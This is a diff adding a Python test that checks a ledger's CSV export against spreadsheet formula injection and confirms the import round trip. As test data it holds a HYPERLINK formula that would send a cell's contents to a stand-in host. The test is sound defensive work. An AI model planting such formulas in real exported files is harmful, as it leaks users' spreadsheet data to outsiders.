@@ -219,3 +219,20 @@ def test_option_rows_replay_to_the_running_state(steps):
             got = [probs.get(o.lower(), 0.0) for o in options]
             assert got == pytest.approx(want, abs=1e-9)
             assert sum(probs.values()) == pytest.approx(1.0)
+
+
+def test_the_export_guards_spreadsheet_formulas_and_the_round_trip_restores_them(ledger, tmp_path):
+    """A title and a criteria cell that a spreadsheet would run (OWASP's CSV injection) are written
+    with a leading quote; importing the file back gives the original text."""
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    ledger.add_question("evil", title=evil, closes="2300-01-01", criteria="+1 if it rains; -1 otherwise")
+    ledger.log("evil", 0.3, by="alice")
+    out = export_fatebook(ledger, tmp_path / "out.csv")
+    with out.open(newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["Question title"] == "'" + evil and row["Question notes"].startswith("'+1")
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
+    fresh = Ledger.open(tmp_path / "fresh.duckdb", create=True)
+    import_fatebook(fresh, out)
+    (q,) = fresh.questions().itertuples()
+    assert q.title == evil and q.criteria == "+1 if it rains; -1 otherwise"
